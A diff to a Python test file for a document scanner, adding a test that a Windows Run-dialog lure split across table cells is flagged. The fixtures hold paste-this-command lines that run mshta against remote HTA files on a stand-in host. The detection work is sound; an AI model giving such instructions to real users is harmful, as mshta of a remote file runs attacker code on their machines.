@@ -159,3 +159,9 @@ def test_what_nobody_reads_in_a_document_is_no_quotation():
 def test_documents_that_ask_for_a_command_to_be_pasted(kind):
     said = Text("Press Windows+R, paste\n\n mshta https://h.example/r.hta\n\nand press Enter.", "body")
     assert [f.rule for f in look(sample(b"PK", kind, "a.docx", ArtifactKind.PART, said))] == ["run-dialog-command"]
+
+
+def test_steps_in_the_cells_of_a_table():
+    node = sample(b"PK", "application/vnd.openxmlformats", "a.docx", ArtifactKind.PART)
+    node.tables.append(Table("table", (("1", "Press Windows key + R"), ("2", "Paste mshta https://h.example/a"))))
+    assert [f.rule for f in look(node)] == ["run-dialog-command"]
